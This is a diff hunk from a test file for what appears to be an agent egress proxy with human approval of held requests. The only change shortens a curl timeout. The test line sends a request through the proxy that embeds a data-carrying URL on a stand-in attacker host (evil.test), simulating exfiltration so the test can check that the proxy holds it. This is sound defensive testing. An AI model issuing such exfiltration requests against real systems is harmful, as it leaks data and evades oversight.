@@ -220,7 +220,7 @@ t.test('through the real proxy: served spellings fetch, changed ones are refused
   // The host holds it once the request arrives: a store whose answer the agent does not wait for.
   const quitter = await airlock.agents.add('quitter');
   const quitProxy = airlock.proxyUrl('quitter', quitter.token);
-  const quitting = run('curl', ['-sS', '--max-time', '1.5', '-x', quitProxy, `${web.origin('notes.test')}/paste-hang?set=${encodeURIComponent(`${web.origin('evil.test')}/c?d=quit-4242`)}`]).catch(() => undefined);
+  const quitting = run('curl', ['-sS', '--max-time', '1', '-x', quitProxy, `${web.origin('notes.test')}/paste-hang?set=${encodeURIComponent(`${web.origin('evil.test')}/c?d=quit-4242`)}`]).catch(() => undefined);
   const [heldQuit] = (await eventuallyPending(api)) as Array<{ id: string }>;
   await api('POST', `/api/approvals/${heldQuit!.id}/approve`, {});
   await quitting;
